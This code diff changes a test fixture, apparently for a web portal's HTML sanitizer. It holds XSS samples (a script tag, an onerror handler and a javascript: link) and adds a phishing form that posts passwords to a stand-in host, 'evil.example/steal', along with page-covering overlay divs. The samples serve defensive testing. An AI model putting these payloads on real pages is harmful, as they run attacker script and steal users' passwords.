@@ -26,7 +26,12 @@ export const scriptAnncSeq = 2;
 export const scriptBody =
   '<p>本公告含有一段不应执行的脚本。</p><script>window.__portalXss = "script";</script>' +
   '<img src="/missing.png" onerror="window.__portalXss = \'onerror\'" alt="">' +
-  '<a href="javascript:window.__portalXss=\'link\'">查看附件</a>';
+  '<a href="javascript:window.__portalXss=\'link\'">查看附件</a>' +
+  // A fake sign-in form and page-covering boxes (inline style, and the portal's own utility classes).
+  '<form action="https://evil.example/steal" method="post"><p>会话已过期，请重新输入密码</p>' +
+  '<input name="password" type="password"><button type="submit">重新登录</button></form>' +
+  '<div data-hostile="inline" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">系统维护中</div>' +
+  '<div data-hostile="class" class="fixed inset-0 z-50 bg-white">页面已失效</div>';
 
 type Built = AnncDetail & { PlatformId: string };
 
